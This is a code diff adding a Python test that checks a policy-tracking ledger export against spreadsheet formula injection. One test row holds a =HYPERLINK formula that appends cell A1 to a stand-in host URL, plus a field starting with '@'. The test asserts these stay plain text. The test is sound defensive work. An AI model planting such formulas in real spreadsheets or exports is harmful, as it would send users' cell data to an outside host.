@@ -319,3 +319,21 @@ def test_progress_graphs_conform_to_the_shapes(out, tmp_path):
     update = next(s for s in graph.subjects(rdflib.RDF.type, rdflib.URIRef("https://w3id.org/policykg/ontology#StatusUpdate")))
     graph.remove((update, rdflib.URIRef("https://w3id.org/policykg/ontology#status"), None))
     assert not pyshacl.validate(graph, shacl_graph=str(ROOT / "shapes.ttl"), inference="none")[0]
+
+
+def test_the_form_keeps_text_as_text(tmp_path, monkeypatch):
+    """A record whose text starts like a formula stays a string cell in the XLSX and gets a ' in the CSV."""
+    from openpyxl import load_workbook
+
+    from policykg.use import ledger
+    rows = [{"record": "record/1", "doc": "d", "text": '=HYPERLINK("http://x.example/"&A1,"点击")', "lead": "@市发改局",
+             "co": "", "deadline": "-", "due": "2025-12-31"}]
+    ledger._write_xlsx(rows, tmp_path / "f.xlsx")
+    sheet = load_workbook(tmp_path / "f.xlsx").active
+    assert sheet["C2"].data_type == "s" and sheet["C2"].value.startswith("=HYPERLINK")
+    assert sheet["D2"].data_type == "s"
+    text = ledger._csv_text(rows)
+    assert "'=HYPERLINK" in text and "'@市发改局" in text
+    assert ledger.status_code(" Extension Requested ") == "extension-requested"
+    assert ledger.status_code("已办结") == "done" and ledger.status_code("差不多") is None
+    assert ledger.parse_date("2025年6月30日") == "2025-06-30" and ledger.parse_date("2025-02-30") is None
